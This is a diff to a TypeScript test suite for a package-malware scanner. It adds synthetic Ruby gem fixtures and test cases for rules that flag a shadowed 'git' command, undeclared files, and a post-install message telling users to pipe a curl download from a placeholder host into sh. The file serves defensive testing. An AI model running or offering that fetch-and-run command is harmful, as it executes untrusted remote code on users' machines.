@@ -11,6 +11,8 @@ import { analyzeArtifact, collectFacts, initEngine, severityOf, type ScanReport,
 import { RULES, RULESET_VERSION, ruleById } from '../../src/scanning/rules/ruleset.ts'
 import { sdistTarGz, wheelOf } from '../helpers/python-dists.ts'
 import { npmTarball } from '../helpers/tarballs.ts'
+import { gemOf, gemspecYaml, type GemspecOptions } from '../helpers/gems.ts'
+import { rubygemsEcosystem } from '../../src/protocols/rubygems/ecosystem.ts'
 
 beforeAll(async () => {
   await initEngine()
@@ -45,6 +47,11 @@ async function wheel(files: Record<string, string>): Promise<ScanReport> {
   const artifact = await pypiEcosystem.readArtifact(bytes, DEFAULT_ARCHIVE_LIMITS, { filename: 'synthetic_pkg-1.0.0-py3-none-any.whl' })
   expect(artifact.format).toBe('wheel')
   return analyzeArtifact(artifact, pypiEcosystem)
+}
+
+async function gem(files: Record<string, string>, spec: GemspecOptions): Promise<ScanReport> {
+  const bytes = await gemOf({ metadata: gemspecYaml('synthetic-gem', '1.0.0', spec), files })
+  return analyzeArtifact(await rubygemsEcosystem.readArtifact(bytes, DEFAULT_ARCHIVE_LIMITS), rubygemsEcosystem)
 }
 
 const postinstall = (command: string) => ({ scripts: { postinstall: command } })
@@ -438,6 +445,28 @@ keyboard.Listener(on_press=on_press).start()
     name: 'version 99.0.0 with an install hook',
     scan: () => npm({}, postinstall('node index.js'), '99.0.0'),
     weight: 40,
+    verdict: 'publish',
+  },
+  {
+    rule: 'shadows-system-command',
+    name: 'a bin entry named git',
+    scan: () => npm({ 'cli.js': '#!/usr/bin/env node\nconsole.log(1)\n' }, { bin: { git: 'cli.js' } }),
+    weight: 40,
+    verdict: 'publish',
+  },
+  {
+    rule: 'install-message',
+    name: 'a post_install_message that pipes a download into sh',
+    scan: () => gem({ 'lib/synthetic-gem.rb': 'module Synthetic; end\n' }, { postInstallMessage: 'Run: curl -s https://get.example.net/setup.sh | sh' }),
+    weight: 40,
+    verdict: 'publish',
+  },
+  {
+    rule: 'undeclared-files',
+    name: 'a lib file the gemspec does not list, loaded by the entry',
+    scan: () => gem({ 'lib/synthetic-gem.rb': "require_relative 'boot'\n", 'lib/boot.rb': 'puts 1\n' }, {}),
+    file: 'lib/boot.rb',
+    weight: 45,
     verdict: 'publish',
   },
   {
